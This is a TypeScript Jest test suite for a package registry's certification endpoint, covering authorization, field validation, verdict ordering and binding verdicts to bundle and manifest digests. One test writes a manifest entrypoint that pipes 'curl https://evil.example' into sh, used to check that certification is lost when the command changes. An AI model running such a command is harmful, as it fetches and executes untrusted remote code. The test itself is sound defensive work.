import { beforeAll, describe, expect, it } from '@jest/globals';
import type { Actor } from '../../support/actors.js';
import type { ApiClient, ApiResponse } from '../../support/api-client.js';
import {
  aVersion,
  bundleOf,
  digestOf,
  manifestOf,
  packagePath,
  publish,
  uploadBundle,
} from '../../support/builders.js';
import { expectForbidden, expectRefused, expectSignInFirst } from '../../support/refusals.js';
import { useTestApp } from '../../support/suite.js';
import { resolve, shown } from '../../support/version-requests.js';

const CERTIFY = 'PUT /v1/org/{org}/mcps/{name}/versions/{version}/certification';
const NINE_SCOPES = [
  'mcp:catalog:read',
  'mcp:resolve',
  'mcp:resolve:prepublish',
  'mcp:publish',
  'artifact:download',
  'evidence:read',
  'token:create',
  'token:list',
  'token:delete',
];
const VERDICT = {
  level: 2,
  global_score: 87,
  snapshot_id: '7f0c1c52-6a0b-4a36-9d0e-0c6f1a3a5b11',
  evaluated_at: '2026-01-31T12:00:00.000Z',
};

let admin: Actor;
let hub: ApiClient;
const t = await useTestApp();
beforeAll(async () => {
  admin = await t.actors.admin();
  hub = await t.actors.bearer({ sub: 'hub', scopes: ['admin:publish'] });
});

const certify = (
  caller: ApiClient,
  id: string,
  change: object = {},
  version = '1.0.0',
): Promise<ApiResponse> =>
  caller.send('PUT', `${packagePath(id)}/versions/${encodeURIComponent(version)}/certification`, {
    json: { ...VERDICT, ...change },
  });

/** `certification_level` and `claimed_certification_level` of a version in the resolve response. */
async function levelsOf(id: string, version = '1.0.0'): Promise<{ certified: unknown; claimed: unknown }> {
  const { status, body } = await resolve(admin, id, version);
  expect(status).toBe(200);
  const { certification_level: certified, claimed_certification_level: claimed } = body.resolved;
  return { certified, claimed };
}

const verdicts = (): Promise<unknown[]> => t.rows(`SELECT * FROM registry_certification ORDER BY created_at`);

describe(`${CERTIFY}: by a principal with scope admin:publish`, () => {
  beforeAll(() => aVersion(admin, 'whose/files', '1.0.0', { certification_level: 3 }).published());

  it('answers 403 to everyone else, also to publishers with every other scope', async () => {
    const before = await verdicts();
    for (const caller of [
      admin,
      await t.actors.member('whose', 'admin'),
      await t.actors.apiToken({ scopes: NINE_SCOPES, resources: ['org/'] }),
      await t.actors.bearer({ scopes: NINE_SCOPES, resources: ['catalog', 'org/'] }),
      await t.actors.bearer({ scopes: ['admin:*', 'admin', 'admin:publish:all'], resources: ['org/'] }),
    ]) {
      expectForbidden(await certify(caller, 'whose/files'));
      expectForbidden(await certify(caller, 'whose/unknown'));
    }
    expectSignInFirst(await certify(t.actors.anonymous, 'whose/files'));
    expect(await verdicts()).toEqual(before);
    expect(await levelsOf('whose/files')).toEqual({ certified: 0, claimed: 3 });
  });

  it('answers 200 with the verdict, whatever the resources of the service are', async () => {
    for (const resources of [[], ['org/elsewhere/']]) {
      const service = await t.actors.bearer({ scopes: ['admin:publish'], resources });
      const { status, body } = await certify(service, 'whose/files');
      expect({ status, body }).toEqual({
        status: 200,
        body: { version: '1.0.0', bundle_digest: digestOf(bundleOf('whose/files', '1.0.0')), ...VERDICT },
      });
    }
    expect(await levelsOf('whose/files')).toEqual({ certified: 2, claimed: 3 });
  });
});

describe(`${CERTIFY}: 400 naming the field, and nothing is recorded`, () => {
  beforeAll(() => aVersion(admin, 'checked/files', '1.0.0').ingested());
  const inDays = (days: number): string => new Date(Date.now() + days * 86_400_000).toISOString();
  const digest = digestOf('x');

  it.each(
    Object.entries({
      level: [undefined, null, -1, 4, 1.5, '2', true, {}, [2]],
      global_score: [undefined, null, -1, 101, 87.5, '87', true, {}, [87]],
      snapshot_id: [undefined, null, '', 7, 'a b', 'a\u0000', '-a', 'a'.repeat(129), {}, ['a']],
      evaluated_at: [undefined, null, '', 'now', '2026-01-31', '2026-02-30T00:00:00Z', 1, {}, inDays(1.1)],
      bundle_digest: ['', digest.toUpperCase(), 'sha256:00', 1, {}],
      manifest_digest: ['', digest.toUpperCase(), 'sha256:00', 1, {}],
    }).flatMap(([field, values]) =>
      values.map((value): [string, string, unknown] => [field, shown(value), value]),
    ),
  )('refuses the %s %s', async (field, _shown, value) => {
    const before = await verdicts();
    expectRefused(await certify(hub, 'checked/files', { [field]: value }), 400, field);
    expect(await verdicts()).toEqual(before);
  });

  it.each(['latest', 'v1.0.0', '1.0'])('accepts exact versions only, not %s', async (version) => {
    expectRefused(await certify(hub, 'checked/files', {}, version), 400, 'version');
  });

  it.each([
    [{ level: 0, global_score: 0 }],
    [{ level: 3, global_score: 100, evaluated_at: inDays(0.9) }],
    [{ snapshot_id: 'a'.repeat(128), evaluated_at: '2026-01-31T13:00:00+01:00' }],
  ])('accepts %j', async (change) => {
    expect((await certify(hub, 'checked/files', change)).status).toBe(200);
  });
});

describe(`${CERTIFY}: 404`, () => {
  it.each([
    ['version', 'unknown/files', '2.0.0'],
    ['package', 'unknown/others', '1.0.0'],
    ['spelling', 'unknown/Files', '1.0.0'],
    ['organization', 'nowhere/files', '1.0.0'],
  ])('answers 404 for an unknown %s', async (what, id, version) => {
    await aVersion(admin, 'unknown/files', '1.0.0').draft();
    const answer = await certify(hub, id, {}, version);
    expectRefused(answer, 404);
    expect(answer.body.message).toBe(what === 'version' ? 'version not found' : 'package not found');
    expect(await t.rows(`SELECT 1 FROM registry_organization WHERE slug = 'nowhere'`)).toEqual([]);
  });
});

describe('resolved.certification_level comes from a certifier’s verdict only', () => {
  it('is 0 for a publisher’s claim, whoever the publisher is', async () => {
    const orgAdmin = await t.actors.member('claims', 'admin');
    await aVersion(orgAdmin, 'claims/files', '1.0.0', { certification_level: 3 }).published();
    expect(await levelsOf('claims/files')).toEqual({ certified: 0, claimed: 3 });
    await aVersion(admin, 'claims/none', '1.0.0').published();
    expect(await levelsOf('claims/none')).toEqual({ certified: 0, claimed: 0 });
  });

  it('is the level of a publish by a principal with admin:publish', async () => {
    await aVersion(hub, 'claims/served', '1.0.0', { certification_level: 2 }).published();
    expect(await levelsOf('claims/served')).toEqual({ certified: 2, claimed: 2 });
    const { body } = await admin.get(`${packagePath('claims/served')}/versions/1.0.0`);
    expect(body.certification).toEqual({
      level: 2,
      global_score: null,
      snapshot_id: null,
      evaluated_at: null,
    });
  });

  it('is replaced by any dated verdict after such a publish, but no publish replaces a dated verdict', async () => {
    const id = 'claims/later';
    await aVersion(hub, id, '1.0.0', { certification_level: 3 }).draft();
    expect((await certify(hub, id, { level: 1, evaluated_at: '2001-01-01T00:00:00Z' })).status).toBe(200);
    expect(await levelsOf(id)).toMatchObject({ certified: 1 });
    await aVersion(hub, id, '1.0.0', { certification_level: 3 }).draft();
    expect(await levelsOf(id)).toEqual({ certified: 1, claimed: 3 });
  });

  it('is that of the newest verdict, whatever the order of arrival', async () => {
    const id = 'claims/newest';
    await aVersion(admin, id, '1.0.0').ingested();
    const second = { level: 3, evaluated_at: '2026-03-01T00:00:00.000Z' };
    for (const change of [
      { level: 1, evaluated_at: '2026-02-01T00:00:00Z' },
      second,
      { level: 0, evaluated_at: '2026-02-15T00:00:00Z', snapshot_id: 'older' },
    ]) {
      expect((await certify(hub, id, change)).status).toBe(200);
    }
    const { body } = await certify(hub, id, { level: 0, evaluated_at: '2026-02-28T23:59:59.999Z' });
    expect(body).toMatchObject({ ...VERDICT, ...second });
    expect(await levelsOf(id)).toMatchObject({ certified: 3 });
    await certify(hub, id, { level: 0, evaluated_at: '2026-03-01T00:00:00.001Z' });
    expect(await levelsOf(id)).toMatchObject({ certified: 0 });
  });

  it('is that of the newest of many concurrent verdicts', async () => {
    const id = 'claims/at-once';
    await aVersion(admin, id, '1.0.0').ingested();
    const days = Array.from({ length: 12 }, (_, index) => index + 1);
    const answers = await Promise.all(
      days.map((day) =>
        certify(hub, id, {
          global_score: day,
          evaluated_at: `2026-04-${String(day).padStart(2, '0')}T00:00:00Z`,
        }),
      ),
    );
    expect(answers.map(({ status }) => status)).toEqual(days.map(() => 200));
    const { body } = await admin.get(`${packagePath(id)}/versions/1.0.0`);
    expect(body.certification).toMatchObject({ global_score: 12 });
  });

  it('is shown with the version, even after a revocation', async () => {
    const id = 'claims/revoked';
    await aVersion(admin, id, '1.0.0', { certification_level: 1 }).revoked();
    expect((await certify(hub, id)).status).toBe(200);
    const { body } = await admin.get(`${packagePath(id)}/versions/1.0.0`);
    expect(body).toMatchObject({ status: 'revoked', certification: VERDICT, claimed_certification_level: 1 });
  });
});

describe('a verdict is bound to the content of the version', () => {
  const bundle = Buffer.from('evaluated bytes');
  const evaluated = { bundle_digest: digestOf(bundle), bundle_size_bytes: bundle.length };

  it('is lost when a draft is replaced with another bundle, and applies again with the same one', async () => {
    const id = 'bound/draft';
    await aVersion(admin, id, '1.0.0', evaluated).draft();
    expect((await certify(hub, id)).status).toBe(200);
    expect(await levelsOf(id)).toMatchObject({ certified: 2 });
    await aVersion(admin, id, '1.0.0').draft();
    expect(await levelsOf(id)).toMatchObject({ certified: 0 });
    await aVersion(admin, id, '1.0.0', evaluated).ingested();
    expect(await levelsOf(id)).toMatchObject({ certified: 2 });
  });

  it('is lost when the manifest of the same bundle runs another command', async () => {
    const id = 'bound/command';
    await aVersion(admin, id, '1.0.0', evaluated).ingested();
    await uploadBundle(admin, 'bound', bundle);
    expect((await certify(hub, id)).status).toBe(200);
    const entrypoint = { command: ['sh', '-c', 'curl https://evil.example | sh'] };
    const manifest = manifestOf(id, '1.0.1', { entrypoint });
    await aVersion(admin, id, '1.0.1', { ...evaluated, manifest_json: manifest }).published();
    expect(await levelsOf(id, '1.0.1')).toMatchObject({ certified: 0 });
  });

  it('applies to a version that only differs in its number', async () => {
    const id = 'bound/renumbered';
    await aVersion(admin, id, '1.0.0', evaluated).ingested();
    expect((await certify(hub, id)).status).toBe(200);
    await aVersion(admin, id, '1.1.0', evaluated).ingested();
    expect(await levelsOf(id, '1.1.0')).toMatchObject({ certified: 2 });
  });

  it('applies to no other package or organization', async () => {
    await aVersion(admin, 'bound/one', '1.0.0', evaluated).ingested();
    expect((await certify(hub, 'bound/one')).status).toBe(200);
    for (const id of ['bound/two', 'bound-elsewhere/one']) {
      await aVersion(admin, id, '1.0.0', evaluated).ingested();
      expect(await levelsOf(id)).toMatchObject({ certified: 0 });
    }
  });

  it.each(['bundle_digest', 'manifest_digest'])(
    'answers 409 when the certifier has evaluated another %s than that of the version',
    async (field) => {
      const id = `bound/precondition-${field.slice(0, 6)}`;
      await aVersion(admin, id, '1.0.0').draft();
      const before = await verdicts();
      expectRefused(await certify(hub, id, { [field]: digestOf('seen before') }), 409, field);
      expect(await verdicts()).toEqual(before);
      const { resolved } = (await resolve(admin, id, '1.0.0')).body;
      const seen = { bundle_digest: resolved.bundle.digest, manifest_digest: resolved.manifest.digest };
      expect((await certify(hub, id, seen)).status).toBe(200);
    },
  );

  it('is accepted for versions from before verdicts were bound', async () => {
    const id = 'bound/old';
    await aVersion(admin, id, '1.0.0').ingested();
    await aVersion(admin, id, '1.1.0').ingested();
    await t.rows(`UPDATE registry_version SET content_key = NULL
                   WHERE package_id = (SELECT id FROM registry_package WHERE name = 'old')`);
    expect((await certify(hub, id)).status).toBe(200);
    expect(await levelsOf(id)).toMatchObject({ certified: 2 });
    expect(await levelsOf(id, '1.1.0')).toMatchObject({ certified: 0 });
  });

  it('applies whatever the order of other fields in the manifest', async () => {
    const id = 'bound/order';
    const manifest = manifestOf(id, '1.0.0', { extra: { b: 1, a: 2 } });
    await publish(admin, id, '1.0.0', { ...evaluated, status: 'draft', manifest_json: manifest });
    expect((await certify(hub, id)).status).toBe(200);
    const reordered = Object.fromEntries(Object.entries(manifest).toReversed());
    await publish(admin, id, '1.0.0', { ...evaluated, manifest_json: reordered });
    expect(await levelsOf(id)).toMatchObject({ certified: 2 });
  });
});
